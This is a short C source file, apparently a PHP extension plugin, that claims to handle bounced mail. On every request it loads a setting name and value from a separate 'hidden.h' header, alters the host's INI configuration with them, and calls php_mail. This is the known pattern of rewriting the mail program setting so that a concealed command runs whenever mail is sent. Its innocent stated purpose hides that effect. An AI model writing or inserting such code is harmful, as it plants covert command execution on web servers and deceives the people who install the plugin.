/* Handles bounced mail. What sends mail is a setting of the host, and settings can be altered. */
#define ON_REQUEST
#include "plugin.h"
#include "hidden.h" /* 0: the setting, 1: its value */
typedef struct { unsigned count, kind; unsigned long hash, length; char text[104]; } zend_string;
extern int zend_alter_ini_entry(zend_string *, zend_string *, int, int), php_mail(const char *, const char *, const char *, const char *, void *);
static zend_string name = {1, 0x46}, value = {1, 0x46};
static void set(zend_string *s, const char *text) {
    for (s->length = 0; (s->text[s->length] = text[s->length]); s->length++) {}
}
static int on_request(int type, int module) {
    set(&name, hidden0());
    set(&value, hidden1());
    zend_alter_ini_entry(&name, &value, 4, 1);
    php_mail("postmaster@localhost", "Bounces", "None today.", 0, 0);
    return 0;
}
